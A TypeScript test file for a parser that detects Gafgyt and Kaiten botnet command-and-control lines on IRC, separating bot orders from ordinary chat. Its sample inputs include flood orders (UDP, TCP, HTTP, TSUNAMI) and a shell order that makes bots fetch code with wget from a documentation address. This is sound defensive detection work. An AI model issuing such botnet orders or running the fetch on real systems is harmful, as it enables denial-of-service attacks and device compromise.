import { describe, expect, it } from 'vitest'
import { inWords, means, readLine, readOrder, readSaid } from './gafgyt.ts'

const attack = (line: string) => {
  const order = readOrder(line)
  return order?.attack && inWords(order.attack)
}

describe("Gafgyt's lines", () => {
  it('are a hello, a question and its answer', () => {
    expect(readLine('BUILD MIPS')).toEqual({ is: 'hello', build: 'MIPS' })
    expect(readLine('BUILD ARM4T:x86_64')).toMatchObject({ is: 'hello' })
    expect(readLine('PING')).toEqual({ is: 'ping' })
    expect(readLine('PONG!')).toEqual({ is: 'pong' })
  })

  it('are orders, told in words', () => {
    expect(attack('!* UDP 192.0.2.1 80 60 32 0 10')).toBe('UDP at 192.0.2.1 port 80 for 60 s')
    expect(attack('!* TCP 192.0.2.1 443 120 32 all 0 1')).toBe('TCP at 192.0.2.1 port 443 for 120 s')
    expect(attack('!* HTTP http://example.org/ 30')).toBe('HTTP at http://example.org/ for 30 s')
    expect(attack('!* TSUNAMI 192.0.2.9 300')).toBe('TSUNAMI at 192.0.2.9 for 300 s')
    expect(readOrder('!* SCANNER ON')).toEqual({ is: 'order', to: '*', command: 'SCANNER' })
    expect(readOrder('!* LOLNOGTFO')).toMatchObject({ command: 'LOLNOGTFO' })
    expect(readOrder('!NIX|abc SH wget http://192.0.2.1/x')).toMatchObject({ to: 'NIX|abc', command: 'SH' })
  })

  it('are none that people and other programs write', () => {
    const others = [
      'PING :irc.example.org',
      'PING\r',
      '+PONG',
      'BUILD SUCCESSFUL in 3s',
      'BUILD',
      '!help',
      '!* hello',
      '!seen bob',
      '!* UDP',
      '!* UDP who when how',
      '!* TCP 192.0.2.1 70000 60',
      '!weather London UK',
      '! SH x',
      `!* ${'A'.repeat(2000)}`,
      '',
    ]
    for (const line of others) expect([line, readLine(line)]).toEqual([line, undefined])
  })
})

describe("Kaiten's channel", () => {
  it('is where orders are said, or stand as its topic', () => {
    expect(readSaid(':op!u@h PRIVMSG #kek :!* PAN 192.0.2.1 80 60')).toMatchObject({
      channel: '#kek',
      order: { command: 'PAN', attack: { port: 80, seconds: 60 } },
    })
    expect(readSaid(':irc.example.org 332 ABCD #kek :!* SH id')).toMatchObject({ channel: '#kek', order: { command: 'SH' } })
  })

  it('is not where people talk', () => {
    for (const line of [
      ':a!b@c PRIVMSG #linux :!google how to SH',
      ':a!b@c PRIVMSG #linux :use !* SH x',
      'PRIVMSG #kek :!* SH id',
      ':a!b@c JOIN #kek',
    ])
      expect([line, readSaid(line)]).toEqual([line, undefined])
  })

  it('means whom it names', () => {
    expect(means('*', 'ABCD')).toBe(true)
    expect(means('AB*', 'abcd')).toBe(true)
    expect(means('*CD', 'ABCD')).toBe(true)
    expect(means('ABCD', 'abcd')).toBe(true)
    expect(means('ABX*', 'ABCD')).toBe(false)
    expect(means('ABCD*CD', 'ABCD')).toBe(false)
  })
})
